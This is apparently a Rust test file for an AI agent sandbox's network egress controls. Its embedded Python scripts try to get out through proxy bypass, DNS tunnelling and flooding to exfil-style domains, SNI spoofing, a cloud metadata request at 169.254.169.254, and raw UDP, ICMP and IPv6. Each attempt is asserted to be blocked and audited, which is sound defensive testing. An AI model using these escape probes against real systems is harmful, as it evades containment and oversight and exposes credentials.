//! The cell's door beyond the explicit proxy: transparent interception of programs that
//! ignore the proxy settings, the cell's resolver, and the protocols that must not get
//! out at all. A real cell runs a real Python program against a local HTTPS stand-in
//! posing as `api.example.test`; every attempt that must fail is asserted to fail and to
//! be in the audit log.

use super::boundary::upstream;
use super::support::{Ran, Sandbox, privileged};

const DEFINITION: &str = "apiVersion: agentspace/v1
kind: Agent
metadata: {name: fetcher, tenant: acme}
spec:
  workspace: ./workspace
  egress:
    - name: api
      hosts: [api.example.test]
      methods: [GET]
      paths: [\"/v1/*\"]
      credential: {secret: api-key, header: Authorization, format: \"Bearer {}\"}
  resources: {memory: 256Mi, pids: 64, cpu: 1.0, timeout: 60s}
";

/// Each attempt prints one line `name: outcome`.
const AGENT: &str = r#"
import json, socket, ssl, struct, subprocess

def attempt(name, f):
    try:
        out = f()
    except Exception as e:
        out = "ERROR " + type(e).__name__ + " " + str(e)
    print(name + ": " + str(out).strip().replace("\n", " "), flush=True)

def https_get(host, path, sni=None, timeout=5):
    s = socket.create_connection((host, 443), timeout=timeout)
    t = ssl.create_default_context().wrap_socket(s, server_hostname=sni or host)
    t.sendall(("GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (path, host)).encode())
    data = b""
    while True:
        chunk = t.recv(65536)
        if not chunk:
            break
        data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    return head.split(b"\r\n")[0].decode() + " " + body.decode(errors="replace")

def curl(*args):
    r = subprocess.run(["curl", "-sS", "-m", "5", "--noproxy", "*", *args], capture_output=True, text=True)
    return (r.stdout + r.stderr).strip()

def dns(name, qtype):
    q = struct.pack("!HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    q += b"\x00" + struct.pack("!HH", qtype, 1)
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.settimeout(5)
    # To a public resolver: the cell's firewall sends it to the cell's resolver anyway.
    u.sendto(q, ("8.8.8.8", 53))
    reply, _ = u.recvfrom(4096)
    return "rcode=%d answers=%d" % (reply[3] & 0x0F, struct.unpack("!H", reply[6:8])[0])

attempt("curl allowed", lambda: curl("https://api.example.test/v1/transparent"))
attempt("curl denied path", lambda: curl("https://api.example.test/v2/denied"))
attempt("curl denied method", lambda: curl("-X", "DELETE", "https://api.example.test/v1/transparent"))
attempt("python socket", lambda: https_get("api.example.test", "/v1/socket"))
attempt("lookup", lambda: socket.gethostbyname("api.example.test"))
attempt("lookup unlisted", lambda: socket.gethostbyname("evil.example.org"))
attempt("dns A via 8.8.8.8", lambda: dns("api.example.test", 1))
attempt("dns TXT", lambda: dns("api.example.test", 16))
attempt("dns tunnel", lambda: dns("mzxw6ytboi4dsnzqgm2tkmbrgy3tqojq.api.example.test", 1))
attempt("sni mismatch", lambda: https_get("api.example.test", "/v1/sni", sni="evil.example.org"))
attempt("metadata", lambda: curl("http://169.254.169.254/latest/meta-data/"))
attempt("cell loopback", lambda: curl("http://localhost:8080/"))
attempt("unassigned synthetic", lambda: https_get("198.18.0.200", "/v1/x"))
def direct_to_transparent():
    s = socket.create_connection(("127.0.0.1", 3129), timeout=5)
    s.sendall(b"GET /v1/x HTTP/1.1\r\nHost: api.example.test\r\n\r\n")
    return s.recv(100) or "closed"
attempt("transparent door directly", direct_to_transparent)
def udp():
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(b"x", ("8.8.8.8", 123))
    return "SENT"
attempt("udp", udp)
def icmp():
    p = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    p.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", ("1.1.1.1", 0))
    return "SENT"
attempt("icmp", icmp)
attempt("ipv6", lambda: socket.create_connection(("2606:4700::1111", 443), timeout=3) and "CONNECTED")
"#;

fn outcome<'a>(r: &'a Ran, name: &str) -> &'a str {
    let prefix = format!("{name}: ");
    r.stdout
        .lines()
        .find_map(|l| l.strip_prefix(prefix.as_str()))
        .unwrap_or_else(|| panic!("no outcome for `{name}`: {r:?}"))
}

#[test]
fn programs_that_ignore_the_proxy_are_governed_and_nothing_else_gets_out() {
    if !privileged() {
        return;
    }
    let s = Sandbox::new();
    let up = upstream(&s);
    let def = s.definition("door.yaml", DEFINITION);
    s.set_secret("acme", "api-key", "door-secret-value");
    let mut c = s.governed_run(&def, up.port);
    c.args(["--", "python3", "-c", AGENT]);
    let r: Ran = c.output().unwrap().into();
    assert_eq!(r.code, 0, "{r:?}");

    // Governed like the explicit proxy: allowed, denied path, denied method.
    assert_eq!(
        outcome(&r, "curl allowed"),
        "upstream saw /v1/transparent",
        "{r:?}"
    );
    for denied in ["curl denied path", "curl denied method"] {
        let body: serde_json::Value = serde_json::from_str(outcome(&r, denied))
            .unwrap_or_else(|e| panic!("{denied}: {e}: {r:?}"));
        assert_eq!(body["decision"], "deny", "{r:?}");
        assert!(body["audit_id"].as_str().is_some(), "{r:?}");
    }
    assert_eq!(
        outcome(&r, "python socket"),
        "HTTP/1.0 200 OK upstream saw /v1/socket",
        "{r:?}"
    );
    // The resolver hands out synthetic addresses and nothing for unlisted names.
    let ip: std::net::Ipv4Addr = outcome(&r, "lookup").parse().unwrap();
    assert_eq!(
        ip.octets()[..2],
        [198, 18],
        "not a synthetic address: {r:?}"
    );
    assert!(outcome(&r, "lookup unlisted").starts_with("ERROR"), "{r:?}");
    assert_eq!(outcome(&r, "dns A via 8.8.8.8"), "rcode=0 answers=1");
    assert_eq!(outcome(&r, "dns TXT"), "rcode=5 answers=0", "{r:?}");
    assert_eq!(outcome(&r, "dns tunnel"), "rcode=5 answers=0", "{r:?}");
    // Attacks on the door.
    assert!(outcome(&r, "sni mismatch").starts_with("ERROR"), "{r:?}");
    assert!(
        outcome(&r, "metadata").contains("\"decision\":\"deny\""),
        "{r:?}"
    );
    // The cell's own loopback holds nothing but the door.
    assert!(
        outcome(&r, "cell loopback").contains("Couldn't connect"),
        "{r:?}"
    );
    for blocked in [
        "unassigned synthetic",
        "transparent door directly",
        "udp",
        "icmp",
        "ipv6",
    ] {
        let o = outcome(&r, blocked);
        assert!(
            o.starts_with("ERROR") || o == "closed" || o == "b''",
            "{blocked} got through: {o}: {r:?}"
        );
    }

    // The upstream saw the injected credential on transparent requests.
    let seen = std::fs::read_to_string(s.path().join("seen.log")).unwrap();
    assert!(
        seen.contains("/v1/transparent auth=Bearer door-secret-value"),
        "{seen}"
    );
    assert!(
        seen.contains("/v1/socket auth=Bearer door-secret-value"),
        "{seen}"
    );
    assert!(!seen.contains("/v1/sni"), "{seen}");
    assert!(!r.stdout.contains("door-secret-value"), "{r:?}");

    // Every refusal is on the record, and the record verifies.
    let events = s.audit_events(&[]);
    let has = |kind: &str, decision: &str, resource: &str, code: Option<&str>| {
        events.iter().any(|e| {
            e["kind"] == kind
                && e["decision"] == decision
                && e["resource"].as_str().is_some_and(|r| r.contains(resource))
                && code.is_none_or(|c| e["details"]["code"] == c)
        })
    };
    for (kind, decision, resource, code) in [
        ("dns_lookup", "allow", "api.example.test", None),
        (
            "dns_lookup",
            "deny",
            "evil.example.org",
            Some("not-permitted"),
        ),
        ("dns_lookup", "deny", "api.example.test", Some("dns-type")),
        (
            "dns_lookup",
            "deny",
            "mzxw6ytboi4dsnzqgm2tkmbrgy3tqojq",
            Some("dns-tunnelling"),
        ),
        (
            "http_request",
            "allow",
            "https://api.example.test:443/v1/transparent",
            None,
        ),
        (
            "http_request",
            "allow",
            "https://api.example.test:443/v1/socket",
            None,
        ),
        (
            "http_request",
            "deny",
            "https://api.example.test:443/v2/denied",
            None,
        ),
        ("http_request", "deny", "169.254.169.254", None),
        (
            "http_request",
            "deny",
            "198.18.0.200:443",
            Some("invalid-request"),
        ),
        (
            "http_request",
            "deny",
            "transparent door",
            Some("invalid-request"),
        ),
    ] {
        assert!(
            has(kind, decision, resource, code),
            "no {decision} {kind} for {resource} ({code:?}) in {events:#?}"
        );
    }
    assert!(
        events
            .iter()
            .any(|e| e["details"]["code"] == "invalid-request"
                && e["reason"]
                    .as_str()
                    .is_some_and(|r| r.contains("evil.example.org"))),
        "the SNI mismatch is not on the record: {events:#?}"
    );
    assert!(
        events
            .iter()
            .filter(|e| e["kind"] == "dns_lookup" || e["kind"] == "http_request")
            .all(|e| e["user"] == "alice" && e["agent"] == "fetcher"),
        "{events:?}"
    );
    let export = s
        .command()
        .args(["audit", "export", "--format", "jsonl"])
        .output()
        .unwrap();
    assert!(!String::from_utf8_lossy(&export.stdout).contains("door-secret-value"));
    assert!(s.audit_verifies());
}

#[test]
fn a_capability_budget_runs_out_for_a_program_in_a_cell() {
    if !privileged() {
        return;
    }
    let s = Sandbox::new();
    let up = upstream(&s);
    let def = s.definition(
        "budget.yaml",
        "apiVersion: agentspace/v1
kind: Agent
metadata: {name: fetcher, tenant: acme}
spec:
  workspace: ./workspace
  egress:
    - name: api
      hosts: [api.example.test]
      methods: [GET]
      budget: {requests: 2}
  resources: {memory: 256Mi, pids: 64, cpu: 1.0, timeout: 60s}
",
    );
    // Two requests through the proxy and one around it: the budget counts them all.
    let script = "curl -sS https://api.example.test/v1/one; echo; \
                  curl -sS --noproxy '*' https://api.example.test/v1/two; echo; \
                  curl -sS https://api.example.test/v1/three; echo";
    let mut c = s.governed_run(&def, up.port);
    c.args(["--", "sh", "-c", script]);
    let r: Ran = c.output().unwrap().into();
    assert_eq!(r.code, 0, "{r:?}");
    let lines: Vec<&str> = r.stdout.lines().filter(|l| !l.is_empty()).collect();
    assert_eq!(lines[0], "upstream saw /v1/one", "{r:?}");
    assert_eq!(lines[1], "upstream saw /v1/two", "{r:?}");
    let third: serde_json::Value = serde_json::from_str(lines[2]).unwrap();
    assert_eq!(third["decision"], "deny", "{r:?}");
    assert_eq!(third["code"], "budget", "{r:?}");
    let seen = std::fs::read_to_string(s.path().join("seen.log")).unwrap();
    assert!(!seen.contains("/v1/three"), "{seen}");
}

/// A program that floods the cell's resolver with refused lookups (a DNS tunnel trying
/// name after name) gets the whole resolver suspended: after 32 refusals even an allowed
/// name is refused, and the suspension is one audit event, not one per query.
#[test]
fn a_flood_of_refused_lookups_suspends_the_cells_resolver() {
    if !privileged() {
        return;
    }
    let s = Sandbox::new();
    let up = upstream(&s);
    let def = s.definition("door.yaml", DEFINITION);
    let script = r#"
import socket, struct

def dns(name):
    q = struct.pack("!HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    q += b"\x00" + struct.pack("!HH", 1, 1)
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.settimeout(5)
    u.sendto(q, ("127.0.0.1", 53))
    reply, _ = u.recvfrom(4096)
    return reply[3] & 0x0F

print("before:", dns("api.example.test"), flush=True)
print("flood:", " ".join(str(dns("n%d.exfil.example.org" % i)) for i in range(40)), flush=True)
print("after:", dns("api.example.test"), dns("other.example.test"), flush=True)
"#;
    let mut c = s.governed_run(&def, up.port);
    c.args(["--", "python3", "-c", script]);
    let r: Ran = c.output().unwrap().into();
    assert_eq!(r.code, 0, "{r:?}");
    // rcode 0: answered; 3: NXDOMAIN; 5: REFUSED.
    assert_eq!(outcome(&r, "before"), "0", "{r:?}");
    let flood: Vec<&str> = outcome(&r, "flood").split(' ').collect();
    assert_eq!(flood.len(), 40);
    assert!(flood[..32].iter().all(|c| *c == "3"), "{r:?}");
    assert!(flood[32..].iter().all(|c| *c == "5"), "{r:?}");
    assert_eq!(outcome(&r, "after"), "5 5", "{r:?}");

    let lookups = s.audit_events(&["--kind", "dns_lookup"]);
    let floods: Vec<_> = lookups
        .iter()
        .filter(|e| e["details"]["code"] == "dns-flood")
        .collect();
    assert_eq!(floods.len(), 1, "{lookups:#?}");
    assert!(
        floods[0]["reason"].as_str().unwrap().contains("suspended"),
        "{floods:?}"
    );
    // Each refused name before the suspension is audited; the suspended ones are not
    // decided at all.
    let refused = lookups
        .iter()
        .filter(|e| e["decision"] == "deny" && e["details"]["code"] != "dns-flood")
        .count();
    assert_eq!(refused, 32, "{lookups:#?}");
    assert!(s.audit_verifies());
}
